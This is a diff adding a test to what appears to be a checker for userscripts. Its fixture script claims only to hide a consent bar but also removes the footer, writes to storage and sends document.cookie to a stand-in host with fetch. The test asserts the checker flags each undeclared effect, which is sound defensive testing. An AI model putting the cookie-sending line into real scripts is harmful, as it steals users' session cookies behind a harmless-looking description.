@@ -22,6 +22,53 @@ for (const [place, { name, task }] of tasks.entries()) {
 	});
 }
 
+/** Hides the bar as asked, by its class and once; and removes the footer, stores something and sends the cookies away. */
+const GREEDY = `// ==UserScript==
+// @name Hide the bar
+// @version 1.0
+// @match *://*.example.com/*
+// @grant none
+// ==/UserScript==
+document.querySelector(".consent-bar").style.display = "none";
+document.querySelector("footer").remove();
+localStorage.setItem("visited", "1");
+void fetch("https://collect.example/?c=" + encodeURIComponent(document.cookie));
+`;
+
+test("the checks find what is wrong with a script that also does other things", async ({ browser }) => {
+	const task = tasks.find(({ name }) => name === "shop-consent")?.task;
+	if (!task) throw new Error("The task is gone");
+	const plan = {
+		summary: "Hides the bar.",
+		steps: [],
+		kind: "userscript" as const,
+		matches: ["*://*.example.com/*"],
+		grants: [],
+		hosts: [],
+		elements: [],
+		unseen: null,
+		effects: ["look" as const],
+	};
+	const ask = async () => ({ kind: "script" as const, code: GREEDY, plan, by: "nobody" });
+	const result = await tryTask(task, ask, { browser, inPage });
+	if (result.outcome !== "tried") throw new Error(result.outcome);
+	const { checks } = result;
+	expect(checks.effect).toBeNull();
+	for (const what of [
+		"footer: removed",
+		"storage changed",
+		"collect.example",
+		"beyond the plan",
+		"content",
+		"storage [",
+	])
+		expect(checks["nothing else"]).toContain(what);
+	expect(checks.matches).toContain("not on https://reading.example/");
+	expect(checks.rating).toMatch(/^(amber|red): /);
+	expect(checks["re-render"]).not.toBeNull();
+	expect(checks["page changes"]).toMatch(/^class names: [^;]+$/);
+});
+
 test("known failures are tasks of the list", () => {
 	expect(tasks.map(({ name }) => name)).toEqual(expect.arrayContaining(Object.keys(knownFailures)));
 });
